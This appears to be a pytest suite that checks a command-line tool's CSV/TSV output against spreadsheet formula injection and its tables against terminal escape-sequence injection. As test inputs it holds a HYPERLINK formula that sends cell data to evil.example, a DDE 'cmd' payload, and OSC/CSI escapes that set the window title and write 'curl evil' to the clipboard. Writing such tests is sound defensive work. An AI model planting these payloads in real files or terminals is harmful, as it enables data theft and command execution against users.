"""Output that cannot attack its reader: CSV and TSV cells a spreadsheet never runs as a
formula, and tables and lines that never write a terminal control sequence, whoever wrote the
text (a catalog, a config, a query)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.helpers import invoke, write
from toolfind.output import wire
from toolfind.output.text import FORMULA_STARTS, spreadsheet_cell

#: What a spreadsheet reads as a plain (negative) number, never as a formula.
NUMBER = re.compile(r"-(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
#: Text that starts formulas, in every place a catalog puts text into a record.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Send")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2 archive old reports",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def formulas(cells: list[str]) -> list[str]:
    """The cells a spreadsheet would take for a formula."""
    return [c for c in cells if c[:1] in FORMULA_STARTS and not NUMBER.fullmatch(c)]


# -- CSV and TSV -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),
        ("  =1+1", "'  =1+1"),
        ("\n@x", "'\n@x"),
        ("a\r=1+1", "a\n=1+1"),  # a bare CR would end the CSV row: "=1+1" would start one
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("- 1", "'- 1"),
        ("-1e", "'-1e"),
        ("-\u0663", "'-\u0663"),  # an Arabic-Indic digit is no number to a spreadsheet
        ("-3", "-3"),
        ("-0.25", "-0.25"),
        ("-.5", "-.5"),
        ("-1e-05", "-1e-05"),
        ("send_mail", "send_mail"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(text: str, cell: str) -> None:
    assert spreadsheet_cell(text) == cell


@given(st.text(max_size=30))
def test_a_neutralised_cell_is_the_text_itself_or_the_text_after_a_quote(text: str) -> None:
    cell = spreadsheet_cell(text)
    lines = text.replace("\r\n", "\n").replace("\r", "\n")  # a CR is a line feed
    assert cell in (lines, "'" + lines)
    assert not formulas([cell]) and not formulas([cell.lstrip()])
    if cell != lines:  # only what a spreadsheet would take for a formula is changed
        assert formulas([text]) or formulas([text.lstrip()])


@given(st.floats(allow_nan=False, allow_infinity=False, max_value=0))
def test_a_negative_number_is_kept_as_the_number_it_is(number: float) -> None:
    assert spreadsheet_cell(str(number)) == str(number)


records = st.lists(
    st.fixed_dictionaries(
        {
            "name": st.text(max_size=12) | st.sampled_from(HOSTILE),
            "description": st.text(max_size=20) | st.sampled_from(HOSTILE),
            "tags": st.lists(st.text(max_size=8) | st.sampled_from(HOSTILE), max_size=3),
            "score": st.floats(-5, 5, allow_nan=False),
        }
    ),
    max_size=4,
)


@given(records)
@settings(max_examples=60)
def test_no_csv_or_tsv_cell_is_a_formula(rows: list[dict[str, object]]) -> None:
    columns = ("name", "description", "tags", "score")
    parsed = list(csv.reader(io.StringIO(wire.records_text(rows, "csv", columns), newline="")))
    tsv = [line.split("\t") for line in wire.records_text(rows, "tsv", columns).split("\n")[:-1]]
    for table in (parsed, tsv):
        assert table[0] == list(columns) and len(table) == len(rows) + 1  # a row a record
        assert formulas([cell for line in table for cell in line]) == []


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
@pytest.mark.parametrize(
    "command",
    [
        ["list"],
        ["search", "report archive"],
        ["similar", "send_report"],
        ["categories"],
        ["summaries", "--all"],
    ],
)
def test_every_record_command_neutralises_what_a_catalog_wrote(
    tmp_path: Path, command: list[str], fmt: str
) -> None:
    catalog = write(
        tmp_path / "pulled.json",
        [
            {"name": "send_report", "description": HOSTILE[0] + " report", "tags": HOSTILE[1:3]},
            {"name": "archive", "description": HOSTILE[2] + " report", "tags": ["-2+3", "ok"]},
            {"name": "noop", "description": HOSTILE[4] + " report archive", "tags": ["-1"]},
        ],
    )
    code, out, err = invoke(*command, "-c", str(catalog), "--format", fmt)
    assert code == 0, err
    lines = (
        list(csv.reader(io.StringIO(out, newline="")))
        if fmt == "csv"
        else [line.split("\t") for line in out.split("\n")[:-1]]
    )
    cells = [cell for line in lines[1:] for cell in line]
    assert len(lines) > 1 and formulas(cells) == []
    assert any(cell.startswith("'") for cell in cells)  # the catalog's text is there, quoted


# -- terminals ---------------------------------------------------------------------------------

#: OSC 0 (the window's title), OSC 52 (the clipboard), a CSI (cursor up, clear the line), an
#: 8-bit CSI and OSC, a bell.
ESCAPES = "\x1b]0;PWNED\x07\x1b]52;c;Y3VybCBldmls\x07\x1b[1A\x1b[2K\x9b2J\x9d0;T\x9c\x07"
#: Any of these written raw is a terminal control.
RAW = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c")


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project whose catalog and config put control sequences in every text they can:
    descriptions, tags, a synonyms group's name and words (a namespace or a name with one is
    refused when the catalog is read), in a folder whose name holds them too."""
    project = tmp_path / ("project" + ESCAPES)
    project.mkdir()
    monkeypatch.chdir(project)
    write(
        project / "toolfind.toml",
        '[synonyms]\n"'
        + ESCAPES.encode("unicode_escape").decode().replace("\\x", "\\u00")
        + 'mail" = ["email", "k8s'
        + "\\u001b[31m"
        + '"]\n',
    )
    return write(
        project / "cat.json",
        {
            "namespace": "ns",
            "tools": [
                {"name": "send_mail", "description": "Send mail " + ESCAPES, "tags": [ESCAPES]},
                {"name": "send_fax", "description": "Send a fax", "tags": ["mail" + ESCAPES]},
            ],
        },
    )


@pytest.mark.parametrize("rich", [False, True], ids=["plain", "rich"])
@pytest.mark.parametrize(
    "command",
    [
        ["search", "send mail"],
        ["search", "send mail" + ESCAPES, "--explain"],
        ["list"],
        ["similar", "send_mail"],
        ["categories"],
        ["show", "send_mail"],
        ["summaries", "--all"],
        ["config"],
        ["config", "path"],
        ["validate"],
    ],
)
def test_no_table_or_line_writes_a_terminal_control_sequence(
    hostile: Path, command: list[str], rich: bool
) -> None:
    env = {"TTY_COMPATIBLE": "1" if rich else "0", "COLUMNS": "200"}
    # No styles (their escapes are toolfind's own); summaries and config never style.
    color = [] if command[0] in ("summaries", "config") else ["--color", "never"]
    catalog = [] if command == ["config", "path"] else ["-c", str(hostile)]
    code, out, err = invoke(*command, *catalog, *color, env=env)
    assert code in (0, 1), err  # validate finds the control characters, and says so
    raw = [c for c in RAW if c in out + err]
    assert raw == [], (out + err)[:2000]
    if command[0] in ("config", "search", "list", "categories", "show"):
        assert "\\x1b]0;PWNED" in out + err  # shown, never acted on


def test_the_config_table_shows_a_keys_escape_sequence_escaped(hostile: Path) -> None:
    code, out, _ = invoke("config", "-c", str(hostile))
    assert code == 0
    line = next(line for line in out.splitlines() if line.startswith("synonyms."))
    assert line.startswith("synonyms.\\x1b]0;PWNED\\x07\\x1b]52;c;")


def test_cache_info_shows_a_cache_directory_named_with_escapes_escaped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = tmp_path / ("cache" + ESCAPES.replace("/", ""))
    monkeypatch.setenv("TOOLFIND_CACHE_DIR", str(cache))
    for rich in ("0", "1"):
        code, out, err = invoke(
            "cache", "info", "--color", "never", env={"TTY_COMPATIBLE": rich, "COLUMNS": "300"}
        )
        assert code == 0, err
        assert [c for c in RAW if c in out + err] == [], out
        assert "cache\\x1b]0;PWNED" in out
